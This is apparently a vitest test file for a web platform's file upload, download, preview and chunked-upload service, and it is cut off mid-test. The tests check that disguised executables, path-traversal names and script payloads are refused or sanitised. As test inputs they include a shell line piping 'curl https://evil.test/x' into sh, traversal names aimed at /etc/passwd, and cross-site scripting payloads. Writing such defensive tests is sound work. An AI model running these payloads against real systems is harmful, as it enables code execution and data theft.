import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readdirSync, utimesSync } from 'node:fs';
import { open, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import type { ChunkQuery } from '@platform/shared';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import yazl from 'yazl';
import { isSafeKey, LocalFileStorage } from '../src/core/file-storage.ts';
import { FileChunkService } from '../src/modules/file/file-chunks.service.ts';
import { Md5Thread, UploadHasher } from '../src/modules/file/upload-hasher.ts';
import { pdfChunkFields } from './helpers/chunk-upload.ts';
import { adminApp, type Client, type TestApp } from './helpers/test-app.ts';

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
/** The head of a Windows program. */
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(100)]);
const md5 = (data: Buffer) => createHash('md5').update(data).digest('hex');

function multipart(fileName: string, content: Buffer, fields: Record<string, string> = {}) {
  const boundary = '----filetest';
  const head = Object.entries(fields)
    .map(([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`)
    .join('');
  const payload = Buffer.concat([
    Buffer.from(
      `${head}--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

function zipOf(entries: Record<string, string>): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, text] of Object.entries(entries)) zip.addBuffer(Buffer.from(text), name);
  zip.end();
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    zip.outputStream.on('data', (p: Buffer) => parts.push(p));
    zip.outputStream.on('end', () => resolve(Buffer.concat(parts)));
    zip.outputStream.on('error', reject);
  });
}

/** A Word document with one paragraph and an inline script the preview must not keep. */
const docx = () =>
  zipOf({
    '[Content_Types].xml':
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels':
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml':
      '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>季度报告 &lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p></w:body></w:document>',
  });

let t: TestApp;
let admin: Client;
/** Another signed-in person (not an administrator). */
let other: Client;

beforeAll(async () => {
  ({ t, admin } = await adminApp());
  await t.createUser({ account: 'fileother', password: 'Other@2026' });
  other = await t.signIn('fileother', 'Other@2026');
});
afterAll(() => t.close());

const upload = (type: string, name: string, content: Buffer, client = admin) =>
  client.call<{ name: string; url: string; thumbUrl?: string }>({
    method: 'POST',
    url: `/api/file/Uploader/${type}`,
    ...multipart(name, content),
  });

async function download(type: string, name: string) {
  const link = await admin.get<{ url: string }>(`/api/file/Download/${type}/${name}`);
  expect(link.code).toBe(200);
  return { url: link.data!.url, response: await t.app.inject({ method: 'GET', url: link.data!.url }) };
}

describe('uploads by type', () => {
  test('an image upload is kept under a generated name and shown by <img> with nosniff', async () => {
    const up = await upload('annexpic', '照片.png', png);
    expect(up).toMatchObject({ code: 200 });
    expect(up.data!.name).toMatch(/^[0-9a-f]{32}\.png$/);
    expect(up.data!.thumbUrl).toBe(up.data!.url);
    const image = await t.app.inject({ method: 'GET', url: up.data!.url });
    expect(image.statusCode).toBe(200);
    expect(image.headers['content-type']).toBe('image/png');
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    expect(image.rawPayload.equals(png)).toBe(true);
    expect(existsSync(path.join(t.config.dataDir, 'files', 'annexpic', up.data!.name))).toBe(true);
  });

  test('a renamed executable with an image or document extension is refused, and nothing is kept', async () => {
    const held = () => readdirSync(path.join(t.config.dataDir, 'files'), { recursive: true }).length;
    const before = held();
    expect(await upload('annexpic', 'photo.png', exe)).toMatchObject({ code: 400, msg: '请上传图片' });
    expect(await upload('annex', 'photo.png', exe)).toMatchObject({ code: 400, msg: '文件内容与扩展名不符' });
    expect(await upload('annex', 'report.pdf', elf)).toMatchObject({ code: 400, msg: '文件内容与扩展名不符' });
    expect(await upload('annex', 'notes.txt', exe)).toMatchObject({ code: 400 });
    expect(await upload('IM', 'photo.png', exe)).toMatchObject({ code: 400, msg: '只能上传图片' });
    expect(await upload('userAvatar', 'photo.png', exe)).toMatchObject({ code: 400 });
    expect(await upload('annex', 'setup.exe', exe)).toMatchObject({ code: 400, msg: '不支持上传exe类型的文件' });
    expect(held()).toBe(before);
  });

  test('scripts with a shebang, Mach-O programs and Java classes are refused even where their bytes pass as text', async () => {
    const files = path.join(t.config.dataDir, 'files');
    const held = () => (existsSync(files) ? readdirSync(files, { recursive: true }).length : 0);
    const before = held();
    // No NUL byte in any of these heads: only the program check refuses them as .txt or .csv.
    const programs: [string, Buffer][] = [
      ['shebang', Buffer.from('#!/bin/sh\ncurl https://evil.test/x | sh\n')],
      ['shebang env', Buffer.from('#!/usr/bin/env python3\nimport os\n')],
      ...[0xfeedface, 0xfeedfacf, 0xcefaedfe, 0xcffaedfe].map((magic): [string, Buffer] => {
        const head = Buffer.alloc(64, 0x41);
        head.writeUInt32BE(magic, 0);
        return [`Mach-O ${magic.toString(16)}`, head];
      }),
      ['Java class', Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(60, 0x41)])],
    ];
    const answers = Object.fromEntries(
      await Promise.all(
        programs.map(async ([kind, body]) => [
          kind,
          [(await upload('annex', 'notes.txt', body)).msg, (await upload('annex', 'table.csv', body)).msg],
        ]),
      ),
    );
    expect(answers).toEqual(
      Object.fromEntries(programs.map(([kind]) => [kind, ['文件内容与扩展名不符', '文件内容与扩展名不符']])),
    );
    expect(held()).toBe(before);
    // The same bytes one past the head are plain text.
    expect(await upload('annex', 'notes.txt', Buffer.from(' #!/bin/sh'))).toMatchObject({ code: 200 });
  });

  test('names with ../ or absolute paths are refused and never reach the disk', async () => {
    for (const name of ['../../secrets.txt', '/etc/passwd.txt', '..\\..\\boot.txt', 'C:\\x.txt']) {
      expect(await upload('annex', name, Buffer.from('hello'))).toMatchObject({ code: 400, msg: '文件名不合法' });
    }
    expect(existsSync(path.join(t.config.dataDir, 'secrets.txt'))).toBe(false);
    expect((await admin.get('/api/file/Download/annex/..%2F..%2Fsecrets.json')).code).toBe(400);
    const image = await t.app.inject({ method: 'GET', url: '/api/file/Image/annexpic/..%2Fsecrets.json' });
    expect(image.json()).toMatchObject({ code: 400 });
    // The store itself refuses any key that could leave its directory.
    for (const key of ['../x', '/abs', 'a/../../x', 'a\\b', '.hidden', '']) expect(isSafeKey(key)).toBe(false);
    const store = new LocalFileStorage(path.join(t.config.dataDir, 'files'));
    await expect(store.write('../escape', Buffer.from('x'))).rejects.toThrow();
    expect(existsSync(path.join(t.config.dataDir, 'escape'))).toBe(false);
  });

  test('.html and .svg are only ever sent as attachments, with nosniff and a sandbox CSP', async () => {
    for (const [name, body] of [
      ['page.html', '<html><script>alert(document.cookie)</script></html>'],
      ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ] as const) {
      const up = await upload('annex', name, Buffer.from(body));
      expect(up.code).toBe(200);
      const { response } = await download('annex', up.data!.name);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-disposition']).toMatch(/^attachment;/);
      expect(response.headers['content-type']).toBe('application/octet-stream');
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(String(response.headers['content-security-policy'])).toMatch(/^sandbox;.*default-src 'none'/);
      expect(response.body).toBe(body);
      // Never shown inline: not an image, so the public image route does not serve it.
      const inline = await t.app.inject({ method: 'GET', url: `/api/file/Image/annex/${up.data!.name}` });
      expect(inline.json()).toMatchObject({ code: 400 });
      expect(inline.body).not.toContain('alert');
    }
    // An SVG is no image for the image types either.
    expect((await upload('annexpic', 'x.png', Buffer.from('<svg onload="alert(1)"/>'))).code).toBe(400);
  });

  test('a download address past its expiry answers 404 and tells nothing of the file', async () => {
    const up = await upload('annex', '工资表-secret.txt', Buffer.from('salaries'));
    const { url, response } = await download('annex', up.data!.name);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toContain(encodeURIComponent('工资表-secret.txt'));
    await sql`update file_link set expires_at = now() - interval '1 second'`.execute(t.app.db);
    const expired = await t.app.inject({ method: 'GET', url });
    const unknown = await t.app.inject({ method: 'GET', url: `/api/file/Download/${'A'.repeat(32)}` });
    expect(expired.statusCode).toBe(404);
    expect(expired.json()).toEqual(unknown.json());
    expect(expired.body).not.toContain('secret');
    expect(expired.body).not.toContain('salaries');
    expect(expired.headers['content-disposition']).toBeUndefined();
  });

  test('several files download as one zip, streamed, duplicate names numbered', async () => {
    const a = await upload('annex', 'a.txt', Buffer.from('first file'));
    const b = await upload('annex', 'b.txt', Buffer.from('second file'));
    const pack = await admin.post<{ downloadName: string; downloadVo: { url: string } }>(
      '/api/file/PackDownload/annex',
      [
        { fileId: a.data!.name, fileName: 'same.txt' },
        { fileId: b.data!.name, fileName: 'same.txt' },
      ] as unknown as object,
    );
    expect(pack.code).toBe(200);
    expect(pack.data!.downloadName).toMatch(/\.zip$/);
    const zip = await t.app.inject({ method: 'GET', url: pack.data!.downloadVo.url });
    expect(zip.statusCode).toBe(200);
    expect(zip.headers['content-type']).toBe('application/zip');
    expect(zip.headers['content-disposition']).toMatch(/^attachment;/);
    const bytes = zip.rawPayload;
    expect(bytes.readUInt32LE(0)).toBe(0x04034b50);
    const text = bytes.toString('latin1');
    expect(text).toContain('same.txt');
    expect(text).toContain('same(1).txt');
    expect(text).toContain('first file');
    expect(text).toContain('second file');
    // A zip entry name is a user string too: no path in it.
    const slip = await admin.post('/api/file/PackDownload/annex', [
      { fileId: a.data!.name, fileName: '../../evil.txt' },
    ] as unknown as object);
    expect(slip).toMatchObject({ code: 400, msg: '文件名不合法' });
  });

  test('previews: images as they are, Word and Excel as sanitised HTML in a sandbox, otherwise no address', async () => {
    const word = await upload('annex', '报告.docx', await docx());
    expect(word.code).toBe(200);
    const address = await admin.get<string>('/api/file/Uploader/Preview', { fileName: word.data!.name });
    expect(address.data).toMatch(/^\/api\/file\/Preview\/[A-Za-z0-9_-]+\?kind=html$/);
    const page = await t.app.inject({ method: 'GET', url: address.data! });
    expect(page.statusCode).toBe(200);
    expect(page.headers['content-type']).toContain('text/html');
    expect(String(page.headers['content-security-policy'])).toMatch(/^sandbox;/);
    expect(page.body).toContain('季度报告');
    expect(page.body).not.toContain('<script>');

    const book = new ExcelJS.Workbook();
    book.addWorksheet('名单').addRows([
      ['姓名', '部门'],
      ['张三', '<img src=x onerror=alert(1)>'],
    ]);
    const excel = await upload('annex', '名单.xlsx', Buffer.from(await book.xlsx.writeBuffer()));
    const excelAddress = await admin.get<string>('/api/file/Uploader/Preview', { fileName: excel.data!.name });
    const sheet = await t.app.inject({ method: 'GET', url: excelAddress.data! });
    expect(sheet.body).toContain('<td>张三</td>');
    expect(sheet.body).toContain('&lt;img src=x onerror=alert(1)&gt;');

    const text = await upload('annex', 'a.txt', Buffer.from('plain'));
    const none = await admin.get<string>('/api/file/Uploader/Preview', { fileName: text.data!.name });
    expect(none.code).toBe(200);
    expect(none.data).toBeUndefined();
    const missing = await admin.get<string>('/api/file/Uploader/Preview', { fileName: `${'0'.repeat(32)}.png` });
    expect(missing.data).toBeUndefined();
  });

  test('uploading needs a session', async () => {
    expect((await upload('annex', 'a.txt', Buffer.from('x'), t.anonymous)).code).not.toBe(200);
  });
});

describe('chunked upload', () => {
  const chunkSize = 5_242_880;
  // Two chunks: 5 MiB and the rest (the last chunk is up to twice the size).
  const content = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(chunkSize + 1_500_000)]);
  const identifier = md5(content);
  const fields = (chunkNumber: number) => pdfChunkFields({ identifier, size: content.length, chunkSize }, chunkNumber);
  const sendChunk = (client: Client, n: number, data: Buffer, body = content) =>
    client.call<{ uploaded: boolean; merge: boolean; chunkNumbers: number[] }>({
      method: 'POST',
      url: '/api/file/chunk',
      ...multipart('blob', data, { ...fields(n), totalSize: String(body.length) }),
    });
  const testCall = (client: Client) =>
    client.get<{ uploaded: boolean; merge: boolean; chunkNumbers: number[] }>('/api/file/chunk', fields(1));
  const mergeBody = {
    identifier,
    fileName: 'big.pdf',
    fileSize: String(content.length),
    type: 'annex',
    extension: 'pdf',
  };
  const merge = (client: Client, body: Record<string, string> = mergeBody) =>
    client.call<{ name: string; fileSize: number; fileExtension: string; fileVersionId: string; url: string }>({
      method: 'POST',
      url: '/api/file/merge',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams(body).toString(),
    });

  test('chunks survive a restart; merge checks the MD5 and is idempotent; the same content again is instant', async () => {
    // `content` (6.7 MB) is one chunk (the last chunk takes the rest); a longer file makes two.
    expect(fields(1).totalChunks).toBe('1');
    const long = Buffer.concat([content, randomBytes(chunkSize)]);
    const longId = md5(long);
    const longFields = (n: number) => ({
      ...fields(n),
      identifier: longId,
      totalSize: String(long.length),
      totalChunks: '2',
    });
    const post = (client: Client, n: number) =>
      client.call<{ uploaded: boolean; merge: boolean; chunkNumbers: number[] }>({
        method: 'POST',
        url: '/api/file/chunk',
        ...multipart('blob', n === 1 ? long.subarray(0, chunkSize) : long.subarray(chunkSize), longFields(n)),
      });
    expect((await admin.get('/api/file/chunk', longFields(1))).data).toEqual({
      uploaded: false,
      merge: false,
      chunkNumbers: [],
    });
    expect((await post(admin, 2)).data).toEqual({ uploaded: false, merge: false, chunkNumbers: [2] });

    // What a restart builds again (the file service over the same database and DATA_DIR) still
    // knows the chunk: it is on disk, not in memory.
    const adminId = (await admin.get<{ userInfo: { userId: string } }>('/api/oauth/CurrentUser')).data!.userInfo.userId;
    const restarted = new FileChunkService(t.app.db, new LocalFileStorage(path.join(t.config.dataDir, 'files')));
    expect(await restarted.state(longFields(1) as unknown as ChunkQuery, adminId)).toEqual({
      uploaded: false,
      merge: false,
      chunkNumbers: [2],
    });
    // Another person who knows the MD5 sees none of it: chunks are kept per person.
    expect((await other.get('/api/file/chunk', longFields(1))).data).toEqual({
      uploaded: false,
      merge: false,
      chunkNumbers: [],
    });
    expect((await post(admin, 1)).data).toEqual({ uploaded: false, merge: true, chunkNumbers: [1, 2] });
    const body = { ...mergeBody, identifier: longId, fileSize: String(long.length) };
    const merged = await merge(admin, body);
    expect(merged).toMatchObject({ code: 200, data: { fileSize: long.length, fileExtension: 'pdf' } });
    expect(merged.data!.name).toMatch(/^[0-9a-f]{32}\.pdf$/);
    // Idempotent: the same merge answers the same file.
    expect((await merge(admin, body)).data).toEqual(merged.data);
    const link = await admin.get<{ url: string }>(merged.data!.url);
    const file = await t.app.inject({ method: 'GET', url: link.data!.url });
    expect(md5(file.rawPayload)).toBe(longId);
    expect(existsSync(path.join(t.config.dataDir, 'files', 'chunks', `${longId}.${chunkSize}.${adminId}`))).toBe(false);

    // Knowing the MD5 is not having the file: the other person must send the bytes, and their merge
    // without them is refused.
    expect((await other.get('/api/file/chunk', longFields(1))).data).toMatchObject({ uploaded: false });
    expect(await merge(other, body)).toMatchObject({ code: 400 });

    // Instant upload: the content is held, so the test call says so and merge needs no chunk.
    expect((await admin.get('/api/file/chunk', longFields(1))).data).toEqual({
      uploaded: true,
      merge: true,
      chunkNumbers: [],
    });
    const again = await merge(admin, { ...mergeBody, identifier: longId, fileSize: String(long.length) });
    expect(again).toMatchObject({ code: 200, data: { fileSize: long.length } });
  });

  test('one chunk files, a wrong MD5, a wrong chunk size and missing chunks are refused', async () => {
    expect((await testCall(admin)).data).toEqual({ uploaded: false, merge: false, chunkNumbers: [] });
    // Merge before every chunk is there.
    expect(await merge(admin)).toMatchObject({ code: 400, msg: '分片不完整，请重新上传' });
    // A chunk of the wrong size is not kept.
    expect(await sendChunk(admin, 1, content.subarray(0, 1000))).toMatchObject({ code: 400 });
    expect((await testCall(admin)).data?.chunkNumbers).toEqual([]);
    expect((await sendChunk(admin, 1, content)).data).toEqual({ uploaded: false, merge: true, chunkNumbers: [1] });
    expect((await merge(admin)).code).toBe(200);

    // Bytes whose MD5 is not the identifier: merge refuses them and keeps nothing.
    const forged = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(3000)]);
    const forgedFields = { ...fields(1), identifier: md5(Buffer.from('other')), totalSize: String(forged.length) };
    const put = await admin.call({
      method: 'POST',
      url: '/api/file/chunk',
      ...multipart('blob', forged, forgedFields),
    });
    expect(put.code).toBe(200);
    const bad = await merge(admin, {
      ...mergeBody,
      identifier: forgedFields.identifier,
      fileSize: String(forged.length),
    });
    expect(bad).toMatchObject({ code: 400, msg: '文件校验失败，请重新上传' });
    expect(existsSync(path.join(t.config.dataDir, 'files', 'merged', forgedFields.identifier))).toBe(false);

    // An executable sent in chunks as a .pdf is refused at merge.
    const program = Buffer.concat([exe, randomBytes(2000)]);
    const programFields = { ...fields(1), identifier: md5(program), totalSize: String(program.length) };
    await admin.call({ method: 'POST', url: '/api/file/chunk', ...multipart('blob', program, programFields) });
    const refused = await merge(admin, { ...mergeBody, identifier: md5(program), fileSize: String(program.length) });
    expect(refused).toMatchObject({ code: 400, msg: '文件内容与扩展名不符' });

    // Names and types.
    expect(await merge(admin, { ...mergeBody, fileName: '../../big.pdf' })).toMatchObject({ code: 400 });
    expect((await admin.get('/api/file/chunk', { ...fields(1), extension: 'exe', filename: 'setup.exe' })).code).toBe(
      400,
    );
  });

  test('the operation log holds the merge of an upload, not one entry per chunk', async () => {
    const data = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(chunkSize * 2 + 1000)]);
    const id = md5(data);
    const f = (n: number) => ({ ...fields(n), identifier: id, totalSize: String(data.length), totalChunks: '2' });
    for (const n of [1, 2]) {
      const part = n === 1 ? data.subarray(0, chunkSize) : data.subarray(chunkSize);
      const put = await admin.call({ method: 'POST', url: '/api/file/chunk', ...multipart('blob', part, f(n)) });
      expect(put.code).toBe(200);
    }
    expect((await merge(admin, { ...mergeBody, identifier: id, fileSize: String(data.length) })).code).toBe(200);
    await t.app.operationLog.flush();
    const entries = t.app.db.selectFrom('sysLog').select('requestBody').where('category', '=', 2);
    // A chunk's entry would have no body (multipart keeps none): none of this file's chunks has one.
    expect(await entries.where('requestRoute', '=', '/api/file/chunk').execute()).toEqual([]);
    const merges = await entries.where('requestRoute', '=', '/api/file/merge').execute();
    expect(merges.filter((entry) => String(entry.requestBody).includes(id))).toHaveLength(1);
  });

  test('abandoned chunks are swept after a day; fresh ones stay', async () => {
    const old = md5(Buffer.from('abandoned'));
    const fresh = md5(Buffer.from('fresh'));
    for (const id of [old, fresh]) {
      const data = Buffer.concat([Buffer.from('%PDF-'), randomBytes(100)]);
      const f = { ...fields(1), identifier: id, totalSize: String(data.length) };
      expect((await admin.call({ method: 'POST', url: '/api/file/chunk', ...multipart('blob', data, f) })).code).toBe(
        200,
      );
    }
    const adminId = (await admin.get<{ userInfo: { userId: string } }>('/api/oauth/CurrentUser')).data!.userInfo.userId;
    const dir = path.join(t.config.dataDir, 'files', 'chunks', `${old}.${chunkSize}.${adminId}`);
    const past = new Date(Date.now() - 25 * 3600_000);
    for (const entry of readdirSync(dir)) utimesSync(path.join(dir, entry), past, past);
    utimesSync(dir, past, past);
    const swept = await new FileChunkService(t.app.db, t.app.fileStorage).sweep();
    expect(swept.removed).toBe(1);

    // The hourly job itself, when due: it finishes (on the embedded database a query outside its
    // transaction once waited for ever, and every call after it with it).
    await sql`update job set run_at = now() - interval '1 minute' where type = 'file.sweep'`.execute(t.app.db);
    let timer: NodeJS.Timeout | undefined;
    const ran = await Promise.race([
      t.app.jobs.runDue(),
      new Promise<'hung'>((resolve) => {
        timer = setTimeout(() => resolve('hung'), 15_000);
      }),
    ]);
    clearTimeout(timer);
    expect(ran).not.toBe('hung');
    const due = await sql<{ n: number }>`select count(*)::int as n from job
        where type = 'file.sweep' and status = 'pending' and run_at <= now()`.execute(t.app.db);
    expect(due.rows[0]?.n).toBe(0);
    expect(existsSync(dir)).toBe(false);
    expect(existsSync(path.join(t.config.dataDir, 'files', 'chunks', `${fresh}.${chunkSize}.${adminId}`, '1'))).toBe(
      true,
    );
  });
});

describe('chunked upload: the MD5 is taken while the chunks land', () => {
  const chunkSize = 1_048_576;
  /** Four chunks of 1 MiB, the last one 1.5 MiB. */
  const pdf = () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(4 * chunkSize + 524_288 - 9)]);
  const query = (data: Buffer, chunkNumber: number) => ({
    chunkNumber,
    chunkSize,
    totalSize: data.length,
    identifier: md5(data),
    filename: 'report.pdf',
    totalChunks: 4,
    extension: 'pdf',
  });
  const partOf = (data: Buffer, n: number) => data.subarray((n - 1) * chunkSize, n < 4 ? n * chunkSize : data.length);
  /** The query as the browser's uploader sends it: text fields. */
  const fields = (data: Buffer, n: number) =>
    Object.fromEntries(Object.entries(query(data, n)).map(([k, v]) => [k, String(v)]));
  const send = (data: Buffer, n: number, bytes = partOf(data, n)) =>
    admin.call<{ merge: boolean; chunkNumbers: number[] }>({
      method: 'POST',
      url: '/api/file/chunk',
      ...multipart('blob', bytes, fields(data, n)),
    });
  const mergeInput = (data: Buffer) => ({
    identifier: md5(data),
    fileName: 'report.pdf',
    fileSize: String(data.length),
    type: 'annex',
    extension: 'pdf',
  });
  const merge = (data: Buffer) =>
    admin.call<{ url: string; fileSize: number }>({
      method: 'POST',
      url: '/api/file/merge',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams(mergeInput(data)).toString(),
    });
  const downloaded = async (url: string) => {
    const link = await admin.get<{ url: string }>(url);
    return (await t.app.inject({ method: 'GET', url: link.data!.url })).rawPayload;
  };
  const kept = (data: Buffer) => existsSync(path.join(t.config.dataDir, 'files', 'merged', md5(data)));
  /** Time for the running hash to read and hash what has landed (it works beside the requests). */
  const settle = () => new Promise((resolve) => setTimeout(resolve, 500));
  const adminId = async () =>
    (await admin.get<{ userInfo: { userId: string } }>('/api/oauth/CurrentUser')).data!.userInfo.userId;
  /** What a second instance, or the process after a restart, builds over the same database and files. */
  const elsewhere = () => new FileChunkService(t.app.db, new LocalFileStorage(path.join(t.config.dataDir, 'files')));

  test('chunks arriving out of order make the same file', async () => {
    const data = pdf();
    for (const n of [3, 1, 4]) expect((await send(data, n)).data?.merge).toBe(false);
    expect((await send(data, 2)).data).toEqual({ uploaded: false, merge: true, chunkNumbers: [1, 2, 3, 4] });
    await settle();
    const merged = await merge(data);
    expect(merged).toMatchObject({ code: 200, data: { fileSize: data.length } });
    expect(md5(await downloaded(merged.data!.url))).toBe(md5(data));
  });

  test('a chunk sent again with other bytes after it was hashed is caught at merge; nothing is kept under the MD5', async () => {
    const data = pdf();
    for (const n of [1, 2, 3, 4]) await send(data, n);
    await settle();
    expect((await send(data, 2, randomBytes(chunkSize))).code).toBe(200);
    expect(await merge(data)).toMatchObject({ code: 400, msg: '文件校验失败，请重新上传' });
    expect(kept(data)).toBe(false);

    // A retry with the right bytes after they were hashed (the client never heard the answer) is accepted.
    for (const n of [1, 2, 3, 4]) await send(data, n);
    await settle();
    expect((await send(data, 2)).code).toBe(200);
    const merged = await merge(data);
    expect(merged.code).toBe(200);
    expect(md5(await downloaded(merged.data!.url))).toBe(md5(data));
  });

  test('a chunk rewritten through another instance is caught at merge, also when that write failed half-way', async () => {
    const data = pdf();
    const userId = await adminId();
    const other = elsewhere();
    for (const n of [1, 2, 3, 4]) await send(data, n);
    await settle();
    await other.putChunk(query(data, 3) as ChunkQuery, userId, Readable.from([randomBytes(chunkSize)]));
    expect(await merge(data)).toMatchObject({ code: 400, msg: '文件校验失败，请重新上传' });
    expect(kept(data)).toBe(false);

    // Other bytes land in chunk 3, then the write fails (too long): the chunk is no longer held.
    for (const n of [1, 2, 3, 4]) await send(data, n);
    await settle();
    const tooLong = Readable.from([randomBytes(chunkSize / 2), randomBytes(chunkSize / 2), Buffer.alloc(1)]);
    await expect(other.putChunk(query(data, 3) as ChunkQuery, userId, tooLong)).rejects.toMatchObject({
      key: 'file.tooLarge',
    });
    expect((await admin.get('/api/file/chunk', fields(data, 1))).data).toMatchObject({ chunkNumbers: [1, 2, 4] });
    expect(await merge(data)).toMatchObject({ code: 400, msg: '分片不完整，请重新上传' });
    expect((await send(data, 3)).data?.merge).toBe(true);
    const merged = await merge(data);
    expect(merged.code).toBe(200);
    expect(md5(await downloaded(merged.data!.url))).toBe(md5(data));
    await other.close();
  });

  test('after a restart half-way the new process continues the saved hash: it hashes only the chunks after it', async () => {
    const data = pdf();
    const userId = await adminId();
    for (const n of [1, 2]) await send(data, n);
    await settle();
    const restarted = elsewhere();
    for (const n of [3, 4]) {
      await restarted.putChunk(query(data, n) as ChunkQuery, userId, Readable.from([partOf(data, n)]));
    }
    const merged = await restarted.merge(userId, mergeInput(data));
    expect(merged.fileSize).toBe(data.length);
    expect(restarted.hashedBytes).toBe(data.length - 2 * chunkSize);
    expect(md5(await downloaded(merged.url))).toBe(md5(data));
    await restarted.close();

    // Every chunk landed before the restart: the merge reads none of the file for its MD5.
    const whole = pdf();
    for (const n of [1, 2, 3, 4]) await send(whole, n);
    await settle();
    const again = elsewhere();
    expect((await again.merge(userId, mergeInput(whole))).fileSize).toBe(whole.length);
    expect(again.hashedBytes).toBe(0);
    expect(md5(await downloaded(merged.url))).toBe(md5(data));
    await again.close();
  });

  test('chunks landing three at a time, each three in reverse, are hashed once each; the state is saved once they pause', async () => {
    const userId = await adminId();
    const total = 20;
    const data = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(total * chunkSize - 9)]);
    const chunk = (n: number) => data.subarray((n - 1) * chunkSize, n * chunkSize);
    const service = elsewhere();
    for (let first = 1; first <= total; first += 3) {
      const three = [first + 2, first + 1, first].filter((n) => n <= total);
      await Promise.all(
        three.map((n) =>
          service.putChunk({ ...query(data, n), totalChunks: total } as ChunkQuery, userId, Readable.from([chunk(n)])),
        ),
      );
    }
    await settle();
    const folder = path.join(t.config.dataDir, 'files', 'chunks', `${md5(data)}.${chunkSize}.${userId}`);
    const saved = JSON.parse(await readFile(path.join(folder, 'md5'), 'utf8')) as { bytes: number; tokens: string[] };
    expect(saved).toMatchObject({ bytes: data.length, tokens: expect.any(Array) });
    expect(saved.tokens).toHaveLength(total);
    const merged = await service.merge(userId, mergeInput(data));
    // Every byte read and hashed exactly once: no byte twice, no second pass at merge.
    expect(service.hashedBytes).toBe(data.length);
    expect(md5(await downloaded(merged.url))).toBe(md5(data));
    await service.close();
  });

  test('a chunk changed after the state was saved, by a write whose process died before it dropped the state, fails the merge', async () => {
    const data = pdf();
    const userId = await adminId();
    for (const n of [1, 2, 3, 4]) await send(data, n);
    await settle();
    // What such a write leaves: other bytes in chunk 2 and a new token in its marker; the saved state
    // still covers the old bytes.
    const folder = path.join(t.config.dataDir, 'files', 'chunks', `${md5(data)}.${chunkSize}.${userId}`);
    expect(existsSync(path.join(folder, 'md5'))).toBe(true);
    const file = await open(path.join(folder, 'data'), 'r+');
    await file.write(randomBytes(chunkSize), 0, chunkSize, chunkSize);
    await file.close();
    await writeFile(path.join(folder, '2'), 'another-token');
    const restarted = elsewhere();
    await expect(restarted.merge(userId, mergeInput(data))).rejects.toMatchObject({ key: 'file.md5Mismatch' });
    expect(restarted.hashedBytes).toBe(data.length);
    await restarted.close();
  });

  test('a merge does not join while one of its chunks is still being written', async () => {
    const data = pdf();
    const userId = await adminId();
    const service = elsewhere();
    for (const n of [1, 2, 3]) {
      await service.putChunk(query(data, n) as ChunkQuery, userId, Readable.from([partOf(data, n)]));
    }
    // Chunk 4 was written once; a second write of it (another tab) is still arriving.
    await service.putChunk(query(data, 4) as ChunkQuery, userId, Readable.from([partOf(data, 4)]));
    const slow = new PassThrough();
    const writing = service.putChunk(query(data, 4) as ChunkQuery, userId, slow);
    slow.write(partOf(data, 4).subarray(0, 1000));
    await new Promise((resolve) => setTimeout(resolve, 100));
    await expect(service.merge(userId, mergeInput(data))).rejects.toMatchObject({ key: 'file.chunksMissing' });
    slow.end(partOf(data, 4).subarray(1000));
    expect((await writing).merge).toBe(true);
    const merged = await service.merge(userId, mergeInput(data));
    expect(md5(await downloaded(merged.url))).toBe(md5(data));
    await service.close();
  });
});

describe('the local store writes a chunk in place', () => {
  const storage = () => new LocalFileStorage(path.join(t.config.dataDir, 'files'));
  /** The bytes as the network hands them over: pieces of uneven sizes. */
  const piecesOf = (data: Buffer) => {
    const pieces: Buffer[] = [];
    for (let at = 0, size = 1; at < data.length; at += size, size = ((size * 7 + 13) % 200_000) + 1) {
      pieces.push(data.subarray(at, at + size));
    }
    return Readable.from(pieces);
  };

  test('bytes arriving in uneven pieces land at their offset, leaving the rest of the file as it was', async () => {
    const store = storage();
    const before = randomBytes(3 * 1024 * 1024);
